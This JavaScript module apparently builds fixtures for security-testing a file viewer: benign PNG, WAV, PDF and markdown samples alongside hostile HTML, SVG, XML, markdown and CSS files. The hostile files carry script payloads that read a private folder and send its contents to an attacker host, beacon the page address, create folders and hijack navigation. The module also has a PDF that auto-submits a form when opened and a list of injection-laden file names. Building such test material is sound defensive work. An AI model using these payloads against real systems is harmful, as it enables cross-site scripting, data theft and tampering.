// Files to look at, made here, and hostile ones.
import { deflateSync, crc32 } from "node:zlib";

const chunk = (type, data) => {
  const body = Buffer.concat([Buffer.from(type), data]);
  const out = Buffer.alloc(body.length + 8);
  out.writeUInt32BE(data.length);
  body.copy(out, 4);
  out.writeUInt32BE(crc32(body) >>> 0, body.length + 4);
  return out;
};

/// A landscape of a kind: sky, hills and water, in colours that the seed chooses.
export function picture(seed, width = 640, height = 400) {
  const rows = [];
  const hue = (shift) => 0.5 + 0.5 * Math.sin(seed * 1.7 + shift);
  for (let y = 0; y < height; y += 1) {
    const row = Buffer.alloc(1 + width * 3);
    for (let x = 0; x < width; x += 1) {
      const far = height * (0.42 + 0.09 * Math.sin(x / 83 + seed) + 0.04 * Math.sin(x / 29 + seed * 2));
      const near = height * (0.62 + 0.07 * Math.sin(x / 121 + seed * 3));
      const t = y / height;
      let color = [200 - 90 * t + 50 * hue(0), 215 - 40 * t * hue(1), 235 - 60 * t * hue(2)];
      if (y > far) color = [92 + 40 * hue(3), 120 + 20 * hue(1), 140 + 30 * hue(4)];
      if (y > near) color = [20 + 30 * hue(5), 95 + 30 * Math.sin(y / 5 + x / 60) * 0.2, 110 + 25 * hue(1)];
      color.forEach((value, index) => { row[1 + x * 3 + index] = Math.max(0, Math.min(255, value)); });
    }
    rows.push(row);
  }
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width);
  head.writeUInt32BE(height, 4);
  head.set([8, 2, 0, 0, 0], 8);
  return Buffer.concat([Buffer.from("\x89PNG\r\n\x1a\n", "latin1"), chunk("IHDR", head), chunk("IDAT", deflateSync(Buffer.concat(rows))), chunk("IEND", Buffer.alloc(0))]);
}

/// Two seconds of a tone.
export function tone() {
  const rate = 8000;
  const data = Buffer.alloc(rate * 2);
  for (let i = 0; i < data.length; i += 1) data[i] = 128 + 60 * Math.sin((i * 440 * 2 * Math.PI) / rate);
  const head = Buffer.alloc(44);
  head.write("RIFF", 0);
  head.writeUInt32LE(36 + data.length, 4);
  head.write("WAVEfmt ", 8);
  head.writeUInt32LE(16, 16);
  head.writeUInt16LE(1, 20);
  head.writeUInt16LE(1, 22);
  head.writeUInt32LE(rate, 24);
  head.writeUInt32LE(rate, 28);
  head.writeUInt16LE(1, 32);
  head.writeUInt16LE(8, 34);
  head.write("data", 36);
  head.writeUInt32LE(data.length, 40);
  return Buffer.concat([head, data]);
}

/// A file of these objects; the first is the catalogue.
function pdfOf(parts) {
  let text = "%PDF-1.7\n";
  const places = parts.map((part, index) => {
    const at = text.length;
    text += `${index + 1} 0 obj\n${part}\nendobj\n`;
    return at;
  });
  const at = text.length;
  text += `xref\n0 ${parts.length + 1}\n0000000000 65535 f \n${places.map((place) => `${String(place).padStart(10, "0")} 00000 n \n`).join("")}trailer << /Size ${parts.length + 1} /Root 1 0 R >>\nstartxref\n${at}\n%%EOF\n`;
  return Buffer.from(text);
}

const stream = "BT /F 24 Tf 60 150 Td (A page of a document) Tj ET";
const pdfPage = (more = "") => [
  "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
  `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 400 300] /Contents 4 0 R /Resources << /Font << /F 5 0 R >> >> ${more}>>`,
  `<< /Length ${stream.length} >>\nstream\n${stream}\nendstream`,
  "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
];

export const pdf = () => pdfOf(["<< /Type /Catalog /Pages 2 0 R >>", ...pdfPage()]);

/// One that sends its form when it is opened, by a script and without, and when it is clicked.
export const sendingPdf = (to, script) => pdfOf([
  "<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /AcroForm << /Fields [7 0 R 8 0 R] >> >>",
  ...pdfPage("/Annots [7 0 R 8 0 R] "),
  `<< /S /JavaScript /JS (${script}) /Next << /S /SubmitForm /F << /FS /URL /F (${to}) >> /Flags 4 >> >>`,
  `<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (go) /P 3 0 R /F 4 /Rect [0 0 400 300] /A << /S /SubmitForm /F << /FS /URL /F (${to}) >> /Flags 4 >> >>`,
  "<< /Type /Annot /Subtype /Widget /FT /Tx /T (what) /V (x) /P 3 0 R /F 4 /Rect [0 0 1 1] >>",
]);

export const markdown = `# Spring at the lake

Some notes about the **trip**, with a list:

- the path along the shore
- the hut, [booked here](https://example.org/)
- bread, cheese, apples

> The water was colder than it looked.

| day | distance |
|---|---|
| Monday | 14 km |
| Tuesday | 9 km |

\`\`\`
pack tent stove map
\`\`\`
`;

/// What a hostile file tries: to run, to read another file, to tell somebody.
export const script = (where, evil) => `
(function(){try{window.parent.__pwned="${where}";window.__pwned="${where}"}catch(e){}
try{fetch("/vdrive/private?t=json").then(r=>r.text()).then(t=>fetch("${evil}/stolen?"+encodeURIComponent(t)))}catch(e){}
try{new Image().src="${evil}/beacon?"+encodeURIComponent(location.href)}catch(e){}
try{fetch("/vdrive/private/owned?t=mkdir",{method:"POST"})}catch(e){}
try{top.location="${evil}/gone"}catch(e){}})()`;

export const hostile = (evil) => ({
  "page.html": `<html><body onload='${script("html", evil).replace(/'/g, "")}'><script>${script("html", evil)}</script><img src=x onerror='alert(1)'><img src='${evil}/img'><iframe src='/vdrive/private'></iframe><form id=f action='/vdrive/private?t=mkdir&name=owned' method=post></form><script>f.submit()</script><meta http-equiv=refresh content='0;url=${evil}/refresh'><link rel=stylesheet href='${evil}/css'><a href='${evil}/' ping='${evil}/ping'>x</a></body></html>`,
  "page.xhtml": `<html xmlns="http://www.w3.org/1999/xhtml"><body><script>${script("xhtml", evil).replace(/&/g, "&amp;")}</script></body></html>`,
  "picture.svg": `<svg xmlns="http://www.w3.org/2000/svg" width="400" height="300" onload="${script("svg", evil).replace(/"/g, "'")}"><script>${script("svg", evil).replace(/&/g, "&amp;")}</script><image href="${evil}/svgimage" width="10" height="10"/><rect width="400" height="300" fill="#c66"/><foreignObject width="100" height="100"><iframe xmlns="http://www.w3.org/1999/xhtml" src="/vdrive/private"></iframe></foreignObject></svg>`,
  "page.md": `# x\n<script>${script("md", evil)}</script>\n<img src=x onerror="alert(1)">\n\n[a](javascript:alert(1)) ![b](${evil}/mdimage) [c](/vdrive/private?t=download&localfile=/tmp/x)\n<iframe src="/vdrive/private"></iframe>\n`,
  "page.txt": `<script>${script("txt", evil)}</script>`,
  "script.js": script("js", evil),
  "style.css": `@import "${evil}/import"; body{background:url(${evil}/bg)}`,
  "data.xml": `<?xml version="1.0"?><?xml-stylesheet href="${evil}/xsl"?><x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>${script("xml", evil).replace(/&/g, "&amp;")}</h:script></x>`,
  "document.pdf": `<html><script>${script("pdf", evil)}</script></html>`,
  "noname": `<!DOCTYPE html><script>${script("noname", evil)}</script>`,
});

/// Names that try to become tags, attributes, addresses or scripts.
export const hostileNames = () => {
  const seeds = [
    "<script>window.__pwned='name'</script>", "\"><img src=x onerror=window.__pwned=1>", "' onmouseover='window.__pwned=1",
    "javascript:window.__pwned=1", "</title><script>window.__pwned=1</script>", "<!--", "-->", "{{7*7}}", "${7*7}", "%3Cscript%3E",
    "a&lt;b", "\u202egnp.exe", "..%2f..%2f", "a\nb", "a\tb", "<svg onload=window.__pwned=1>", "`window.__pwned=1`", "\\\"", "<!--rows-->",
    "]]><script>window.__pwned=1</script>",
  ];
  const endings = ["", ".png", ".html", ".md", ".svg", " ", "\"", "'", ">", "/x"];
  return seeds.flatMap((seed) => endings.map((ending) => seed + ending));
};
